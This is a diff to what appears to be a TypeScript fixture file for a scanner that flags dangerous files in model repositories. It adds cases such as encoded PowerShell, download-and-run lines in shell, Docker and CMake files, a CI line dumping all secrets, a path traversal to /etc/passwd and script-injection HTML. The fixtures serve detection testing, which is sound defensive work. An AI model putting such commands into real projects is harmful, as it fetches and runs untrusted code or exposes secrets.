@@ -534,6 +534,109 @@ export const PLACES: readonly Case[] = [
   ),
 ];
 
+/** What installers, tests, shells and containers take from settings, scripts and pages. */
+export const MORE_PLACES: readonly Case[] = [
+  unscannable('broken/config.yaml', 'YAML that does not end', 'a: [1, 2\nb: {c\n'),
+  unscannable('tabs/config.yml', 'YAML with a tab where none may be', 'a: 1\n\tb: 2\n'),
+  unscannable('alias/config.yaml', 'a name that nothing has', 'a: *nope\n'),
+  suspicious(
+    'first/config.json',
+    'what a reader of the first of two keys sees',
+    '{"auto_map": {"AutoModel": "m.X"}, "auto_map": {}}',
+  ),
+  suspicious('last/config.json', 'the same in an object inside', '{"a": {"trust_remote_code": true}, "a": 1}'),
+  malicious(
+    'run.bat',
+    'an encoded command of PowerShell',
+    '@echo off\r\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n',
+  ),
+  malicious('split.cmd', 'the same by variables', 'set x=pow\r\n%x%ershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n'),
+  malicious(
+    'load.ps1',
+    'a text that is fetched and run',
+    '& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x")))\n',
+  ),
+  suspicious(
+    'later.sh',
+    'fetched in one line and run in another',
+    '#!/bin/sh\ncurl -s http://127.0.0.1:9/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n',
+  ),
+  suspicious('later/Dockerfile', 'the same in an image', 'FROM x\nRUN wget http://127.0.0.1:9/x.sh\nRUN bash x.sh\n'),
+  suspicious('add/Dockerfile', 'an address that is added', 'FROM x\nADD http://127.0.0.1:9/x.tar.gz /\n'),
+  suspicious('two/Dockerfile', 'a command over two lines', 'FROM x\nRUN curl http://127.0.0.1:9/x \\\n | sh\n'),
+  suspicious(
+    'CMakeLists.txt',
+    'fetches and runs while it is configured',
+    'execute_process(COMMAND curl http://127.0.0.1:9/x COMMAND sh)\n',
+  ),
+  malicious('ci/workflow.yml', 'sends all secrets', 'env:\n  S: ${{ toJSON(secrets) }}\n'),
+  suspicious(
+    'compose/docker-compose.yml',
+    'a container with the machine',
+    'services:\n  a:\n    privileged: true\n    image: x\n',
+  ),
+  suspicious('binding.gyp', 'native code that npm builds', "{'targets': []}\n"),
+  suspicious('prepare/package.json', 'a script of npm without a name', json({ scripts: { prepare: 'node x.js' } })),
+  suspicious('hooks/post-merge', 'a hook of Git', '#!/bin/sh\ntrue\n'),
+  suspicious('.Rprofile', 'what R runs when it starts here', 'system("true")\n'),
+  suspicious('module/.gitmodules', 'an update that is a command', '[submodule "x"]\n\tpath = x\n\tupdate = !true\n'),
+  suspicious('lint/.pylintrc', 'code of a linter', '[MASTER]\ninit-hook="import os"\n'),
+  suspicious('tests/pytest.ini', 'a plugin of a test runner', '[pytest]\naddopts = -p evil\n'),
+  suspicious('index/Pipfile', 'an index without protection', '[[source]]\nurl = "http://127.0.0.1:9/simple"\n'),
+  suspicious('registry/.npmrc', 'a registry without protection', 'registry=http://127.0.0.1:9/\n'),
+  suspicious('stranger/requirements.txt', "a stranger's branch", 'git+https://github.com/stranger/thing.git\n'),
+  suspicious('include/requirements.txt', 'requirements by address', '-r http://127.0.0.1:9/r.txt\n'),
+  malicious('Modelfile', 'weights outside the folder', 'FROM ../../../../etc/passwd\n'),
+  malicious('adapter/Modelfile', 'an adapter at an address', 'FROM llama3\nADAPTER http://127.0.0.1:9/x.gguf\n'),
+  suspicious(
+    'kind/model.safetensors.index.json',
+    'an index of tensors that names a pickle',
+    json({ weight_map: { a: 'x.bin' } }),
+  ),
+  suspicious('page/index.html', 'a page with a script', '<html><script>x()</script></html>'),
+  suspicious('page/a.svg', 'a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>'),
+  suspicious('page/README.md', 'a card with an event', '# Model\n\n<img src=x onerror="x()">\n'),
+  suspicious('shebang/vocab.txt', 'a script under the name of a vocabulary', '#!/bin/sh\ntrue\n'),
+  suspicious(
+    'ops/onnx_config.json',
+    'a library of operators',
+    json({ session_options: { custom_op_library: './x.so' } }),
+  ),
+  suspicious('base/config.yaml', 'a base from an address', '_base_: http://127.0.0.1:9/base.yaml\n'),
+  clean(
+    'ok2/README.md',
+    'a card that shows HTML as code',
+    '# Model\n\n```html\n<script>x()</script>\n```\n\n<p align="center"><img src="a.png"></p>\n',
+  ),
+  clean(
+    'ok2/a.svg',
+    'a drawing',
+    '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/><text>on load = 5</text></svg>',
+  ),
+  clean(
+    'ok2/Modelfile',
+    'a model of Ollama',
+    'FROM ./model.gguf\nPARAMETER temperature 0.7\nSYSTEM "You are a helpful assistant."\n',
+  ),
+  clean(
+    'ok2/pyproject.toml',
+    'a project with a home page',
+    '[project]\nname = "x"\n[project.urls]\nurl = "http://example.org"\n[tool.pytest.ini_options]\naddopts = "-ra -q"\n',
+  ),
+  clean(
+    'ok2/Dockerfile',
+    'an image that fetches weights',
+    'FROM python:3.11\nRUN curl -LO https://example.org/model.safetensors && ls\nRUN pip install torch --index-url https://download.example.org/whl/cu121\n',
+  ),
+  clean(
+    'ok2/docker-compose.yml',
+    'a container without rights',
+    'services:\n  a:\n    image: x\n    volumes:\n    - ./models:/models:ro\n',
+  ),
+  clean('ok2/requirements.txt', 'a library of a known owner', 'git+https://github.com/huggingface/transformers.git\n'),
+  clean('ok2/.gitattributes', 'large files', '*.bin filter=lfs diff=lfs merge=lfs -text\n'),
+];
+
 const CHATML =
   "{%- for message in messages %}\n{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}\n{%- endfor %}\n{%- if add_generation_prompt %}\n{{- '<|im_start|>assistant\\n' }}\n{%- endif %}";
 const SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
@@ -882,4 +985,4 @@ export const PACKED: readonly Case[] = [
   clean('bundle-ok.zip', 'the same without a call', zip([{ name: 'conf/settings', bytes: 'a: 1\n' }])),
 ];
 
-export const SURROUNDINGS: readonly Case[] = [...YAML, ...KEYS, ...PLACES, ...TEMPLATES, ...PACKED];
+export const SURROUNDINGS: readonly Case[] = [...YAML, ...KEYS, ...PLACES, ...MORE_PLACES, ...TEMPLATES, ...PACKED];
